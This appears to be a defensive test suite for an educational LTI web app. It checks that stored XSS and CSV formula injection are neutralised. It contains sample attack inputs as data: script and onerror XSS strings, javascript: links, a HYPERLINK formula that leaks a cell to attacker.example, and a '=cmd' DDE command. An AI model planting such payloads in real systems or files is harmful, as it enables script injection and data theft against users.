/**
 * Stored XSS: script, event-handler and javascript: payloads in free-text answers, marker comments,
 * student names (the launch's name claim) and case content (a case loaded from its own CASES_DIR).
 * The API returns them as JSON data, never HTML; the CSV export neutralises spreadsheet formulas;
 * every HTML page's CSP forbids inline script; and the client's Markdown never makes them executable.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createElement } from 'react';
import { renderToString } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { Markdown } from '../../client/shared/Markdown.js';
import { DEFAULT_CASES_DIR } from '../../server/cases/loader.js';
import { anyAnswer } from '../helpers/answers.js';
import { useFakePlatform } from '../helpers/fakePlatform.js';
import { useUpstream } from '../helpers/upstream.js';
import { api, CASE_ID, ltikFor, type AttemptAnswer } from './api.js';

const SCRIPT = '<script>alert(document.cookie)</script>';
const IMG = '<img src=x onerror=alert(1)>';
const JS_LINK = '[Read the guidance](javascript:alert(document.domain))';
/** Names a student can give themselves in the LMS, each a formula if a spreadsheet runs it. */
/** A name that is harmless where , separates cells, but not where a spreadsheet splits on ; . */
const SEMICOLON_NAME = 'Ana;=HYPERLINK("https://attacker.example/?"&A1,"Open")';

const FORMULA_NAMES = [
  '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
];

/** The case under test with payloads in its title, summary, first step and every step title. */
function writeHostileCase(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'upstream-xss-cases-'));
  const source = path.join(DEFAULT_CASES_DIR, `${CASE_ID}.yaml`);
  const module = parse(readFileSync(source, 'utf8')) as {
    title: string;
    summary: string;
    steps: Array<{ title: string; body?: string }>;
  };
  module.title = `${SCRIPT} ${module.title}`;
  module.summary = `${IMG}\n\n${module.summary}`;
  module.steps[0]!.body = `${module.steps[0]!.body}\n\n${JS_LINK}\n\n${SCRIPT}\n`;
  for (const step of module.steps) step.title = `=${step.title}`;
  writeFileSync(path.join(dir, `${CASE_ID}.yaml`), stringify(module));
  return dir;
}

const upstream = useUpstream({ EMULATOR: 'off', CASES_DIR: writeHostileCase() });
const platform = useFakePlatform();

const course = { course: 'course-xss', link: 'rl-xss' };
const ANSWER = `${SCRIPT} ${IMG} ${JS_LINK}`;
const COMMENT = `${IMG} see <a href="javascript:alert(1)">this</a>`;
let teacher: string;
let writer: string;
let marked: { attemptId: string; stepId: string };

/** Plays the whole case, answering its free-text step with `text` (padded to the word minimum). */
async function playWithAnswer(ltik: string, text: string): Promise<void> {
  let attempt = (await api<AttemptAnswer>(upstream.url, ltik, 'POST', '/api/player/attempts', {}))
    .body;
  for (let guard = 0; attempt.status !== 'finished' && guard < 50; guard++) {
    const step = attempt.step;
    const padding = Array.from({ length: step.minWords ?? 0 }, (_, i) => `word${i}`).join(' ');
    const response =
      step.kind === 'free-text'
        ? { kind: 'free-text', text: `${text} ${padding}` }
        : anyAnswer(step);
    const res = await api<{ attempt: typeof attempt }>(
      upstream.url,
      ltik,
      'POST',
      `/api/player/attempts/${attempt.id}/responses`,
      { revision: attempt.revision, stepId: step.id, response },
    );
    expect(res.status, res.text).toBe(200);
    attempt = res.body.attempt;
  }
}

/** Every cell of an RFC 4180 file, in order (quoted cells may hold commas, quotes, line breaks). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && (c === ',' || c === '\n')) {
      cells.push(cell);
      cell = '';
    } else if (quoted || c !== '\r') cell += c;
  }
  return cells;
}

/** Asserts an answer is JSON (the API sends nosniff, so browsers never read it as HTML). */
function expectJsonData(res: { contentType: string }): void {
  expect(res.contentType).toMatch(/^application\/json/);
}

beforeAll(async () => {
  writer = await ltikFor(upstream.url, platform, {
    user: 'student-writer',
    name: SCRIPT,
    ...course,
  });
  await playWithAnswer(writer, ANSWER);
  for (const [i, name] of [...FORMULA_NAMES, SEMICOLON_NAME].entries()) {
    const user = i === 0 ? '=cmd|"/C calc"!A0' : `student-${i}`;
    const ltik = await ltikFor(upstream.url, platform, { user, name, ...course });
    await api(upstream.url, ltik, 'POST', '/api/player/attempts', {});
  }
  teacher = await ltikFor(upstream.url, platform, {
    user: 'teacher-xss',
    role: 'instructor',
    ...course,
  });
  const queue = await api<{ items: Array<{ attemptId: string; stepId: string }> }>(
    upstream.url,
    teacher,
    'GET',
    '/api/marking',
  );
  marked = queue.body.items[0]!;
});

describe('payloads come back as data', () => {
  it('returns a <script> free-text answer to the marker as JSON data', async () => {
    const res = await api<{ answer: string }>(
      upstream.url,
      teacher,
      'GET',
      `/api/marking/${marked.attemptId}/${marked.stepId}`,
    );
    expectJsonData(res);
    expect(res.body.answer.startsWith(ANSWER)).toBe(true);
  });

  it('returns an <img onerror> marker comment as JSON data', async () => {
    const item = await api<{
      revision: number;
      rubric: Array<{ id: string; levels: Array<{ level: string }> }>;
    }>(upstream.url, teacher, 'GET', `/api/marking/${marked.attemptId}/${marked.stepId}`);
    const criterion = item.body.rubric[0]!;
    const res = await api<{ comment: string }>(
      upstream.url,
      teacher,
      'PUT',
      `/api/marking/${marked.attemptId}/${marked.stepId}`,
      {
        revision: item.body.revision,
        marks: { [criterion.id]: criterion.levels[0]!.level },
        comment: COMMENT,
      },
    );
    expectJsonData(res);
    expect(res.body.comment).toBe(COMMENT);
  });

  it('returns a <script> student name from the launch name claim as JSON data', async () => {
    const [dashboard, queue, own] = await Promise.all([
      api<{ students: Array<{ name: string }> }>(upstream.url, teacher, 'GET', '/api/dashboard'),
      api<{ items: Array<{ student: { label: string } }> }>(
        upstream.url,
        teacher,
        'GET',
        '/api/marking',
      ),
      api<{ user: { name: string } }>(upstream.url, writer, 'GET', '/api/launch'),
    ]);
    for (const res of [dashboard, queue, own]) expectJsonData(res);
    expect(dashboard.body.students.map((s) => s.name)).toContain(SCRIPT);
    expect(queue.body.items[0]!.student.label).toBe(SCRIPT);
    expect(own.body.user.name).toBe(SCRIPT);
  });

  it('returns case content with <script>, <img onerror> and javascript: links as JSON data', async () => {
    const player = await api<{ placement: { case: { title: string; summary: string } } }>(
      upstream.url,
      writer,
      'GET',
      '/api/player',
    );
    expectJsonData(player);
    expect(player.body.placement.case.title.startsWith(SCRIPT)).toBe(true);
    expect(player.body.placement.case.summary.startsWith(IMG)).toBe(true);
    // A new attempt opens on the first step, whose body carries the link and the script.
    const firstStep = await api(upstream.url, writer, 'POST', '/api/player/attempts', {});
    expectJsonData(firstStep);
    expect(firstStep.text).toContain(JS_LINK);
    expect(firstStep.text).toContain(SCRIPT);
  });

  it('answers API errors and unknown API paths as JSON even when the browser asks for HTML', async () => {
    const res = await fetch(`${upstream.url}/api/${encodeURIComponent(SCRIPT)}`, {
      headers: { Authorization: `Bearer ${writer}`, Accept: 'text/html' },
    });
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('the CSV export', () => {
  async function exportedCells(file = 'dashboard.csv'): Promise<string[]> {
    const res = await fetch(`${upstream.url}/api/${file}`, {
      headers: { Authorization: `Bearer ${teacher}` },
    });
    expect(res.status).toBe(200);
    return csvCells(await res.text());
  }

  it('neutralises student names and ids that start with = + - @ or a tab', async () => {
    const cells = await exportedCells();
    for (const name of FORMULA_NAMES) expect(cells).toContain(`'${name}`);
    expect(cells).toContain(`'=cmd|"/C calc"!A0`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('neutralises a formula after a ; inside a name, for spreadsheets that split cells on ;', async () => {
    const res = await fetch(`${upstream.url}/api/dashboard.csv`, {
      headers: { Authorization: `Bearer ${teacher}` },
    });
    const line = (await res.text()).split('\r\n').find((l) => l.includes('Ana;'));
    expect(line).toContain(`"Ana;'=HYPERLINK(`);
    // Split the way a ;-locale spreadsheet that ignored the quotes would: no piece starts a formula.
    const pieces = line!.split(/[;,\t]/).map((piece) => piece.replace(/^"/, ''));
    expect(pieces.filter((piece) => /^[=+\-@]/.test(piece))).toEqual([]);
  });

  it('neutralises case step titles that start with = in the branch statistics', async () => {
    const cells = await exportedCells('dashboard/paths.csv');
    // The paths file holds step titles only: every one that starts with = is defused.
    expect(cells.filter((cell) => cell.startsWith("'=")).length).toBeGreaterThan(0);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

describe('content security policy', () => {
  /** The script-src directive, which must not let inline script run. */
  function scriptSources(res: Response): string {
    const csp = res.headers.get('content-security-policy') ?? '';
    const directive =
      csp
        .split(';')
        .map((d) => d.trim())
        .find((d) => d.startsWith('script-src')) ?? '';
    expect(directive).not.toBe('');
    expect(directive).not.toContain("'unsafe-inline'");
    expect(directive).not.toContain("'unsafe-eval'");
    return directive;
  }

  it('forbids inline script on every client page, and the pages carry none', async () => {
    for (const page of ['/', '/player/', '/instructor/', '/deeplink/']) {
      const res = await fetch(`${upstream.url}${page}`);
      expect(res.status, page).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
      expect(scriptSources(res)).toBe("script-src 'self'");
      const scripts = [...(await res.text()).matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
      expect(
        scripts.filter((tag) => !/\bsrc=/.test(tag)),
        page,
      ).toEqual([]);
    }
  });

  it('forbids inline script on the /lti error pages, but for their own nonce', async () => {
    const pages = [
      await fetch(`${upstream.url}/lti/login?iss=${encodeURIComponent(SCRIPT)}`),
      await fetch(`${upstream.url}/lti/${encodeURIComponent(SCRIPT)}`),
      await fetch(`${upstream.url}/lti/launch`, {
        method: 'POST',
        body: new URLSearchParams({ state: SCRIPT }),
      }),
    ];
    for (const res of pages) {
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
      expect(scriptSources(res)).toMatch(/^script-src 'nonce-[A-Za-z0-9+/=]+'$/);
      expect(await res.text()).not.toContain(SCRIPT);
    }
  });
});

describe('the client Markdown component', () => {
  const render = (text: string) => renderToString(createElement(Markdown, { text }));

  it('renders raw <script> and <img onerror> in case text as nothing executable', () => {
    const html = render(`Before\n\n${SCRIPT}\n\nInline ${IMG} here`);
    expect(html).toContain('Before');
    expect(html).not.toMatch(/<script|<img|onerror/i);
  });

  it('renders a javascript: link in case text without its javascript: address', () => {
    const html = render(
      `${JS_LINK} and [a mixed-case one](JaVaScRiPt:alert(1)) and <javascript:alert(2)>`,
    );
    expect(html).toContain('Read the guidance');
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
    expect(hrefs).toEqual(['', '', '']);
  });
});
